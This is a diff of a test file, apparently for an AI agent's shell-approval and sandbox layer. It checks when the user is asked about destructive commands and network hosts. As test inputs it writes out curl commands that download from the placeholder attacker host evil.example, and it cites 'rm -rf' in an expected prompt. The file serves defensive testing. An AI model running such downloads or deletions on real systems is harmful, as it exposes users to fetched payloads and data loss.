@@ -243,7 +243,8 @@ test('what destroys is asked about as before: a yes for the session is none to t
   const curl = { command: 'curl', parameters: ['-s', '-o', 'file', `https://evil.example/`] };
   await shell.run(curl);
   const [, removes, replaces] = asked;
-  expect([removes?.session_means, removes?.subject.network]).toEqual([undefined, undefined]);
+  expect(removes?.subject.network).toBeUndefined();
+  expect(removes?.session_means).toMatch(/: rm -rf with any files/);
   expect(replaces?.subject.network).toMatchObject([{ hosts: ['evil.example:443'] }]);
   // Two things speak against it: a yes is for this call alone.
   expect([replaces?.session_means, replaces?.always]).toEqual([undefined, null]);
@@ -308,7 +309,7 @@ test.each([
 test('outside of a sandbox nothing is asked about hosts: the rules of the policy decide', async () => {
   const { shell, asked } = open([undefined], { sandbox: 'off' });
   await shell.run({ command: 'curl', parameters: ['-s', 'https://evil.example/'] });
-  expect(asked.map(({ subject, session_means }) => [subject.network, session_means])).toEqual([[undefined, undefined]]);
+  expect(asked.map(({ subject }) => subject.network)).toEqual([undefined]);
 });
 
 test('where the network is open, nothing is asked about hosts', async () => {
